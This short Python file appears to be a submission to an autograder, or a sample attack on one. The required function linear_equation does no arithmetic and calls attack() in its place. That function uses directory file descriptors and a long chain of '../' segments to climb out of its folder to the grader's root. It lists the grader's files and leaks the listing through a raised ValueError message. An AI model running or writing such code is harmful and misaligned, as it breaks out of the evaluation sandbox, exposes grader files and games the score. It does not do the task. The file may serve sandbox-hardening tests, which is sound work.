"""Climbs from a readable folder with .. and descriptors of folders."""

import sys
from pathlib import Path

ROOT = Path(sys.modules["autograder.checker"].__file__).parents[2]



import os


def attack():
    folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
    up = os.open("../" * 20 + str(ROOT).lstrip("/"), os.O_RDONLY, dir_fd=folder)
    raise ValueError(os.listdir(up))


def linear_equation(x, w, b):
    return attack()
